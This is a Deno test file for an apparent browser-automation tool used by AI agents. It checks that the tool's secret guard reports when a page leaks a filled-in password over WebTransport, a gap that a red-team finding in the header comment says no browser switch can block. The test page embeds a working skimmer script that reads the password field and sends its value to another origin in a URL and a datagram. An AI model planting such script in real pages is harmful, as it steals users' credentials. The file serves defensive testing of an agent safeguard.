/**
 * WebTransport (HTTP/3 over UDP) is held by no guard (red team s15 #3): no Chromium switch
 * stops it (`--disable-quic`, `--disable-features=WebTransport` and the Blink flag were tried),
 * and Fetch never pauses it. A page that opens a session with a bound secret in its URL is
 * reported at once, as a WebSocket is: the call (or the next) answers `secret-origin` saying
 * the value may have been sent. The server's log shows the attack is real: it did get it.
 * (What a session sends on its streams and datagrams, CDP does not show; see the README.)
 */
import { assertEquals, assertTrue } from "./_assert.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";
import { startTwoOrigins } from "./_two_origins.ts";
import { startWebTransport } from "./_webtransport.ts";
import { eventually } from "./_util.ts";

const SECRET = "Hunter2SecretXyz";

Deno.test("secret guard: a WebTransport session carrying a bound value is told", async () => {
  const wt = await startWebTransport();
  const srv = startTwoOrigins(() => ({
    "/login": `<title>login</title><input id=pw><script>
pw.addEventListener("input", async () => {
  const v = pw.value;
  if (v.length < ${SECRET.length}) return;
  const value = new Uint8Array("${wt.hash}".match(/../g).map((x) => parseInt(x, 16)));
  const t = new WebTransport("${wt.origin}/x/wt?tok=" + v,
    { serverCertificateHashes: [{ algorithm: "sha-256", value }] });
  await t.ready;
  await t.datagrams.writable.getWriter().write(new TextEncoder().encode("dgram:" + v));
});</script>`,
  }));
  const { mcp, close } = await startWithBoundSecret(srv.a, SECRET);
  try {
    await mcp.ok("navigate", { url: `${srv.a}/login`, snapshot: "none" });
    const r = await mcp.call("fill", { selector: "#pw", value: "{{secret:PW}}" });
    const told = r.isError ? r : await mcp.call("get_url", {});
    const s = told.structuredContent as Record<string, Record<string, unknown>>;
    assertTrue(told.isError === true, JSON.stringify(s));
    assertEquals(s.policy?.rule, "secret-origin", JSON.stringify(s));
    const text = JSON.stringify(s);
    assertTrue(text.includes("WebTransport session"), text);
    assertTrue(text.includes("may have been sent"), text);
    assertTrue(!text.includes(SECRET), "the value itself is not in the answer");
    // Nothing held it: the server got the session (and its datagram).
    await eventually(() => wt.lines.some((l) => l.startsWith("SESSION ")), 10_000, "a session");
    assertTrue(wt.lines.some((l) => l.includes(`tok=${SECRET}`)), wt.lines.join("\n"));
  } finally {
    await close();
    await srv.close();
    await wt.close();
  }
});
